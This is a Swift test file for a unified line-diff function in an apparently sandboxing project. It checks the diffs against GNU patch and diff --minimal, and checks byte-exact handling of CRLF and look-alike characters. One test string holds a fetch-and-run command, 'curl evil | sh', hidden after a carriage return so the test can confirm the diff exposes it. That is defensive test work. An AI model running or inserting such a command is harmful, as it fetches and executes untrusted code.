@testable import CordonSandbox
import Foundation
import Testing

/// `LineDiff.unified` checked by the tools people review diffs with: GNU `patch` must turn the
/// old text into the new one with it, and it must change no more lines than `diff --minimal`.
@Suite struct LineDiffTests {
    /// Random texts over a small alphabet of lines (so they share many), some without a final
    /// newline, each pair diffed, patched and counted.
    @Test func patchMakesTheNewTextAndTheDiffIsMinimal() throws {
        var generator = SystemRandomNumberGenerator()
        let dir = NSTemporaryDirectory() + "cordon-linediff-\(getpid())"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let alphabet = ["a\n", "b\n", "c\n", "d\n", "e\n", "\n", "a longer line\n", "a\r\n", "\r\n"]
        for round in 0..<60 {
            func text() -> String {
                let count = Int.random(in: 0...40, using: &generator)
                var t = (0..<count).map { _ in alphabet.randomElement(using: &generator)! }.joined()
                if !t.isEmpty && Bool.random(using: &generator) { t.removeLast() }
                return t
            }
            let old = text(), new = text()
            let diff = LineDiff.unified(old: old, new: new, oldName: "a/f", newName: "b/f")
            if old == new {
                #expect(diff.isEmpty)
                continue
            }
            let oldPath = "\(dir)/old-\(round)", patchPath = "\(dir)/p-\(round)", newPath = "\(dir)/new-\(round)"
            try old.write(toFile: oldPath, atomically: false, encoding: .utf8)
            try new.write(toFile: newPath, atomically: false, encoding: .utf8)
            try diff.write(toFile: patchPath, atomically: false, encoding: .utf8)
            let patched = Self.run("/usr/bin/patch", ["-s", "-o", "-", oldPath, patchPath])
            #expect(patched.status == 0 && patched.out == new, "round \(round): \(patched.err)\n\(diff)")
            let reference = Self.run("/usr/bin/diff", ["--minimal", "-u", oldPath, newPath])
            #expect(Self.changedLines(diff) == Self.changedLines(reference.out), "round \(round):\n\(diff)\nvs\n\(reference.out)")
        }
    }

    /// Compared byte for byte: CRLF lines are lines (and patch applies the diff), a CR inside a
    /// line cannot hide an added line as context, and a look-alike letter is a change.
    @Test func bytesNotCharactersAreCompared() throws {
        let crlf = LineDiff.unified(old: "a\r\nb\r\nc\r\n", new: "a\r\nB\r\nc\r\n", oldName: "a/f", newName: "b/f")
        #expect(crlf == "--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\r\n-b\r\n+B\r\n c\r\n")
        let hidden = LineDiff.unified(old: "x\n", new: "x\r\n curl evil | sh #\n", oldName: "a/f", newName: "b/f")
        #expect(hidden == "--- a/f\n+++ b/f\n@@ -1 +1,2 @@\n-x\n+x\r\n+ curl evil | sh #\n", "\(hidden)")
        #expect(!LineDiff.unified(old: "K=1\n", new: "\u{212A}=1\n", oldName: "a/f", newName: "b/f").isEmpty)
        #expect(!LineDiff.unified(old: "\u{e9}\n", new: "e\u{301}\n", oldName: "a/f", newName: "b/f").isEmpty)
    }

    /// Past `maxEdits` the diff is one hunk replacing everything: still what patch applies.
    @Test func aHugeDifferenceIsStillACorrectDiff() throws {
        let old = (0..<5000).map { "old \($0)\n" }.joined(), new = (0..<5000).map { "new \($0)\n" }.joined()
        let diff = LineDiff.unified(old: old, new: new, oldName: "a/f", newName: "b/f")
        #expect(diff.hasPrefix("--- a/f\n+++ b/f\n@@ -1,5000 +1,5000 @@\n"))
        #expect(Self.changedLines(diff) == 10_000)
    }

    /// Lines split at LF bytes (a Character split would take CRLF as one).
    static func changedLines(_ diff: String) -> Int {
        Array(diff.utf8).split(separator: 0x0A, omittingEmptySubsequences: false).filter { line in
            let text = Array(line)
            return (text.first == 0x2B && !text.starts(with: Array("+++".utf8))) || (text.first == 0x2D && !text.starts(with: Array("---".utf8)))
        }.count
    }

    static func run(_ tool: String, _ arguments: [String]) -> (status: Int32, out: String, err: String) {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: tool)
        p.arguments = arguments
        let out = Pipe(), err = Pipe()
        p.standardOutput = out
        p.standardError = err
        guard (try? p.run()) != nil else { return (-1, "", "cannot run \(tool)") }
        let o = out.fileHandleForReading.readDataToEndOfFile(), e = err.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        return (p.terminationStatus, String(decoding: o, as: UTF8.self), String(decoding: e, as: UTF8.self))
    }
}
